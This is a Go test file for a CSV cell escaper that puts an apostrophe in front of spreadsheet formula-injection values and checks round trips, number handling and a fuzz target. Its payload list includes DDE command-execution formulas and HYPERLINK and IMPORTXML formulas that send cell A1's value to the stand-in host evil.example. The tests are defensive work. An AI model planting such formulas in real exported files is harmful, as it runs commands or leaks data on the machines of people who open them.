package csvcell

import (
	"strings"
	"testing"
)

// payloads are the formula injections OWASP and the literature list, and
// the seven planted in the issue 12 test.
var payloads = []string{
	`=1+2`, `=HYPERLINK("http://evil.example/?"&A1,"click")`, `=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+9)*cmd|' /C calc'!A0`,
	"\t=1+2", "\r=1+2", `=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")`, `-`, `+`, `@`, `=`,
	`-1+1`, `--5`, `+-5`, `-5-`, `-Inf`, `+NaN`, `-0x10`, `-1e`, `=2e5`,
}

func TestNeutralise(t *testing.T) {
	for _, p := range payloads {
		got := Neutralise(p)
		if !strings.HasPrefix(got, "'") || got[1:] != p {
			t.Errorf("Neutralise(%q) = %q, want it behind an apostrophe", p, got)
		}
	}
	// Numbers, negative ones included, dates as we write them, and text
	// that merely contains a trigger stay as they are.
	for _, s := range []string{"", "0", "12", "-5", "+5", "-3.25", "+3.25", ".5", "-.5", "5.", "1e-3", "-1E+10",
		"1987", "1987-03", "1987-03-04", "~1987", "<2001", ">1990", "1980/1989", "김영희", "Kim Young-hee",
		"a=b", "x+y", "name@example.org", " =1", "record:12:victim", "true"} {
		if got := Neutralise(s); got != s {
			t.Errorf("Neutralise(%q) = %q, want it unchanged", s, got)
		}
	}
}

// TestRestoreInverts: import undoes export exactly, including for values
// that themselves start with apostrophes.
func TestRestoreInverts(t *testing.T) {
	all := append([]string{"", "-5", "1e-3", "'", "''", "'=1", "''=1", "'-5", "'abc", "'\t", "plain", "'plain"}, payloads...)
	for _, s := range all {
		if got := Restore(Neutralise(s)); got != s {
			t.Errorf("Restore(Neutralise(%q)) = %q", s, got)
		}
	}
	// Restore leaves cells that are not escaped alone.
	for _, s := range []string{"'abc", "'", "'5", "=1"} {
		if got := Restore(s); got != s {
			t.Errorf("Restore(%q) = %q", s, got)
		}
	}
}

func TestIsNumber(t *testing.T) {
	for s, want := range map[string]bool{"1": true, "-1": true, "+1.5": true, "1e5": true, "1e": false, "e5": false,
		".": false, "-": false, "1.2.3": false, "0x10": false, "Inf": false, "NaN": false, " 1": false, "1 ": false} {
		if IsNumber(s) != want {
			t.Errorf("IsNumber(%q) = %v", s, !want)
		}
	}
}

func FuzzRoundTrip(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := Neutralise(s)
		if Restore(n) != s {
			t.Fatalf("Restore(Neutralise(%q)) = %q", s, Restore(n))
		}
		if n != "" && strings.IndexByte(triggers, n[0]) >= 0 && !IsNumber(n) {
			t.Fatalf("Neutralise(%q) = %q starts a formula", s, n)
		}
	})
}

// TestWriter: every cell the Writer writes is neutralised, and a reader
// that restores the cells gets the records back.
func TestWriter(t *testing.T) {
	var b strings.Builder
	w := NewWriter(&b)
	in := [][]string{{"id", "name"}, {"1", "=1+2"}, {"-5", "Kim, Young-hee"}}
	if err := w.WriteAll(in); err != nil {
		t.Fatal(err)
	}
	want := "id,name\n1,'=1+2\n-5,\"Kim, Young-hee\"\n"
	if b.String() != want {
		t.Fatalf("wrote %q, want %q", b.String(), want)
	}
}
